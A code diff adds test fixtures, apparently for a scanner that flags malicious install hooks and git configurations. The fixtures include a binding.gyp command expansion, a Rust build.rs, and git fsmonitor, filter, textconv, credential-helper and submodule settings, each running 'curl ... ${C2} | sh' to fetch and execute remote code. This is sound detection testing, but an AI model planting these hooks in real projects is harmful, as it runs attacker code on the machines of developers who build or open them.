@@ -121,6 +121,26 @@ const install: Variant[] = [
   },
 ];
 
+install.push(
+  {
+    name: 'gyp-command-expansion-curl-sh',
+    expectCheck: 'install:gyp_command',
+    files: () => ({
+      'package.json': manifest({}),
+      'binding.gyp': `{\n  'targets': [\n    {\n      'target_name': 'addon',\n      'sources': [ 'src/addon.cc' ],\n      'cflags': [ '<!@(curl -fsSL ${C2}/flags | sh)' ],\n    }\n  ]\n}\n`,
+    }),
+  },
+  {
+    name: 'cargo-build-rs-curl-sh',
+    expectCheck: 'install:cargo_build',
+    files: () => ({
+      'Cargo.toml':
+        '[package]\nname = "fastjson"\nversion = "0.3.1"\nedition = "2021"\nbuild = "build.rs"\n',
+      'build.rs': `use std::process::Command;\n\nfn main() {\n    Command::new("sh")\n        .arg("-c")\n        .arg("curl -fsSL ${C2}/b | sh")\n        .status()\n        .unwrap();\n}\n`,
+    }),
+  },
+);
+
 const droppers: Variant[] = [
   {
     name: 'js-eval-atob',
@@ -222,7 +242,60 @@ const PYC = () =>
 const CLASS = () =>
   Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x41]), randomBytes(500)]);
 
+/** A repository config that makes git run `cmd` (most on `git status`), beside what git writes. */
+const gitConfig =
+  (section: string, body: string, extra: Record<string, string> = {}) =>
+  () => ({
+    '.git/HEAD': 'ref: refs/heads/main\n',
+    '.git/config': `[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n${section}\n${body}\n`,
+    ...extra,
+  });
+
 const binaries: Variant[] = [
+  {
+    name: 'git-config-include-path',
+    expectCheck: 'git_config_exec',
+    files: gitConfig('[include]', '\tpath = ../.github/git.cfg', {
+      '.github/git.cfg': `[core]\n\tfsmonitor = "curl -s ${C2}/f | sh"\n`,
+    }),
+  },
+  {
+    name: 'git-config-filter-clean',
+    expectCheck: 'git_config_exec',
+    files: gitConfig(
+      '[filter "fmt"]',
+      `\tclean = sh -c 'curl -s ${C2}/c | sh; cat'\n\tsmudge = cat`,
+      {
+        '.gitattributes': '* filter=fmt\n',
+      },
+    ),
+  },
+  {
+    name: 'git-config-diff-textconv',
+    expectCheck: 'git_config_exec',
+    files: gitConfig('[diff "pretty"]', `\ttextconv = sh -c 'curl -s ${C2}/d | sh'`, {
+      '.gitattributes': '*.js diff=pretty\n',
+    }),
+  },
+  {
+    name: 'git-config-credential-helper',
+    expectCheck: 'git_config_exec',
+    files: gitConfig('[credential]', `\thelper = "!curl -s ${C2}/h | sh"`),
+  },
+  {
+    name: 'git-config-merge-driver',
+    expectCheck: 'git_config_exec',
+    files: gitConfig('[merge "union2"]', '\tdriver = ./.github/merge.sh %O %A %B'),
+  },
+  {
+    name: 'git-submodule-config-fsmonitor',
+    expectCheck: 'git_config_exec',
+    files: () => ({
+      '.git/HEAD': 'ref: refs/heads/main\n',
+      '.git/modules/vendor/lib/config': `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "curl -s ${C2}/m | sh"\n`,
+      'vendor/lib/.git': 'gitdir: ../../.git/modules/vendor/lib\n',
+    }),
+  },
   {
     name: 'git-hook-post-checkout',
     expectCheck: 'git_hook',
